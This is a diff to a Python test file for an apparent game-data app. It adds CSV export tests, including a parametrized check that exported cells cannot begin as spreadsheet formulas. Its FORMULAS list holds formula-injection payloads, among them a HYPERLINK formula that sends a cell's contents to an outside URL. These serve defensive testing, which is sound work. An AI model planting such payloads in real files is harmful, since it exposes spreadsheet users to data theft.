@@ -2,6 +2,8 @@
 
 # ruff: noqa: F401, F811 (a fixture is found by its name, wherever it is imported from)
 
+import csv
+import io
 import json
 from datetime import date, timedelta
 from pathlib import Path
@@ -223,6 +225,53 @@ def test_untrusted_text_keeps_no_sign_that_markdown_reads():
     assert all(text[at - 1] == "\\" for at, sign in enumerate(text) if sign in "<>*[]():$`!_#~|&")
 
 
-def test_a_csv_holds_lists_as_words():
-    frame = pl.DataFrame({"player_id": ["a"], "evidence": [["e1", "e2"]]})
-    assert grids.csv(frame) == b"player_id,evidence\na,e1 e2\n"
+def csv_rows(content: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+
+
+def test_a_csv_holds_lists_and_the_like_as_words():
+    kind = pl.Series(["x"], dtype=pl.Enum(["x"]))
+    frame = pl.DataFrame({"player_id": ["a"], "evidence": [["e1", "e2"]], "struct": [{"a": 1}], "kind": kind, "z": [-0.5]})
+    (row,) = csv_rows(grids.csv(frame))
+    assert row == {"player_id": "a", "evidence": "e1 e2", "struct": "{'a': 1}", "kind": "x", "z": "-0.5"}
+
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+    '=HYPERLINK("http://x?"&A1,"y")',
+    "a;=1+1",
+    'a",=1+1',
+]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_in_a_csv_is_a_formula_whatever_parts_the_cells(text: str, delimiter: str):
+    content = grids.csv(pl.DataFrame({text: [text], "list": [[text]], "xp": [5]}))
+    cells = [cell for line in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter) for cell in line]
+    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n\uff1d"))] == []
+    (row,) = csv_rows(content)
+    assert row["list"].replace("'", "") == text
+
+
+@pytest.mark.parametrize("player", [" lead", "trail ", "\u2028ls", "  "])
+def test_a_player_is_looked_up_by_the_id_as_it_is(open_page, tmp_path: Path, player: str):
+    settings = build_lake(tmp_path, [event(player, 0, n, 5 + n) for n in range(3)])
+    assert "18" in [metric.value for metric in open_page(settings, "progression", player=player).metric]
+    assert f"Evidence: {controls.as_text(player)}".strip() in [
+        head.value for head in open_page(settings, "fairness", player=player).subheader
+    ]
+    board = open_page(settings, "leaderboards", player=player)
+    assert "That player is not on this board." not in [info.value for info in board.info]
+
+
+def test_an_id_with_a_blank_too_many_finds_who_is_like_it(open_page, game_lake: Settings):
+    app = open_page(game_lake, "progression", player=f" {LEADER} ")
+    assert LEADER in [button.label for button in app.button]
